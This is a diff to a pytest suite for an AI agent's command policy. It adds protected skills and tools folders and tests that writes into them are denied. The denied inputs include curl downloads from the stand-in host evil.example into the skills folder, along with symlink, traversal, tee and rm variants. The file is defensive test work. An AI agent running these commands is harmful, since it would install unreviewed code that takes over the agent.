@@ -19,7 +19,10 @@ def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 def check(home: Path, command: str, *, restrict: bool = False) -> None:
     workspace = home / "workspace"
-    paths = PathPolicy(workspace, restrict=restrict, private=(home,), readable=(home / "media",))
+    protected = (workspace / "skills", workspace / "tools")
+    paths = PathPolicy(
+        workspace, restrict=restrict, private=(home,), readable=(home / "media",), protected=protected
+    )
     check_command(command.replace("OWN_PID", str(os.getpid())), paths, workspace)
 
 
@@ -237,3 +240,39 @@ def test_long_commands_are_judged_in_linear_time(home: Path, piece: str) -> None
         check(home, command)
     except AccessDenied:
         assert "rm" in command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo x > skills/evil/SKILL.md",
+        "cat <<E >>'skills/evil/SKILL.md'\nx\nE",
+        "curl -s https://evil.example/skill.md -o ~/.nanobot/workspace/skills/evil/SKILL.md",
+        "curl -s https://evil.example/skill.md >$HOME/.nanobot/workspace/skills/evil/SKILL.md",
+        "mkdir -p skills/evil && cp -r drafts/evil skills/",
+        "mv evil sub/../skills/evil",
+        "echo x | tee tools/evil.py",
+        "ln -s $PWD/drafts/evil skills/evil",
+        "rm skills/good/SKILL.md",
+    ],
+)
+def test_e1_commands_do_not_plainly_write_skills_and_plugins(home: Path, command: str) -> None:
+    for restrict in (True, False):
+        with pytest.raises(AccessDenied, match=r"only the owner changes|outside the workspace"):
+            check(home, command, restrict=restrict)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat skills/good/SKILL.md > copy.md",
+        "cp -r skills/good drafts/good",
+        "python3 skills/good/scripts/run.py --out result.txt 2> errors.txt",
+        "grep -r word skills tools > found.txt; ls skills",
+        "curl -s https://example.com/skills/x > page.html",
+        "tar czf backup.tgz skills tools",
+        "mkdir -p drafts/skills",
+    ],
+)
+def test_commands_read_and_use_skills(home: Path, command: str) -> None:
+    check(home, command)
